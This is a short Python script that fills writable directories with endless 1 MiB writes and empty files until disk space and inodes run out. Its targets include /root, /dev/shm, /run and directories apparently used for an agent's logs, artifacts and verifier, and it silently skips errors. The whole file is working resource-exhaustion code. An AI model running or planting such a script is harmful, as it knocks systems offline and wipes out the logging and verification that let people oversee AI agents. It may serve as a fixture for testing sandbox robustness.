"""Fills every place that can be written, with bytes and with names, until each is full."""

from __future__ import annotations

import itertools
from pathlib import Path

_PLACES = ("/app", "/tmp", "/var/tmp", "/logs/agent", "/logs/artifacts", "/logs/verifier", "/root", "/dev/shm", "/run")
_PIECE = b"x" * (1 << 20)


def main() -> None:
    for place in _PLACES:
        try:
            Path(place, "names").mkdir(parents=True, exist_ok=True)
            with Path(place, "bytes").open("wb", buffering=0) as file:
                for number in itertools.count():
                    file.write(_PIECE)
                    Path(f"{place}/names/{number}").touch()
        except OSError:
            continue


if __name__ == "__main__":
    main()
